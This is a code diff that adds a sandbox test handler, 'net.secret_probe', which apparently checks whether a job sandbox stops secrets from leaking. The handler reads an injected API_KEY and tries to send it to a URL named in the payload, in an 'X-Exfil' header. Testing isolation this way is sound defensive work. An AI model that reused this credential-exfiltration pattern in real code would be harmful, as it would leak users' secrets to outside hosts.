@@ -56,3 +56,27 @@ def direct(payload: dict[str, Any], ctx: tenantq.JobContext) -> dict[str, Any]:
         out["egress_dir"] = sorted(os.listdir("/tenantq/egress"))
     out["proxy_env"] = os.environ.get("HTTPS_PROXY")
     return out
+
+
+@tenantq.handler("net.secret_probe", timeout=60, memory_mb=128)
+def secret_probe(payload: dict[str, Any], ctx: tenantq.JobContext) -> dict[str, Any]:
+    """Use the injected secret, try to send its placeholder elsewhere, then
+    hold still (marker file) while the test scans the sandbox's memory."""
+    import time
+
+    key = os.environ.get("API_KEY", "")
+    out: dict[str, Any] = {"env_value": key, "ctx_value": ctx.env.get("API_KEY"),
+                           "ssl_cert_file": os.environ.get("SSL_CERT_FILE")}
+    out["stripe"] = _get(payload["stripe"])
+    leak = urllib.request.Request(payload["other"], headers={"X-Exfil": key})
+    try:
+        with urllib.request.urlopen(leak, timeout=15) as resp:
+            out["leak"] = {"ok": True, "status": resp.status}
+    except urllib.error.HTTPError as exc:
+        out["leak"] = {"ok": False, "status": exc.code, "error": f"{exc.code} {exc.reason}"}
+    with open("probed", "w") as fh:
+        fh.write("ready for the memory scan")
+    deadline = time.monotonic() + 40
+    while not os.path.exists("release") and time.monotonic() < deadline:
+        time.sleep(0.05)
+    return out
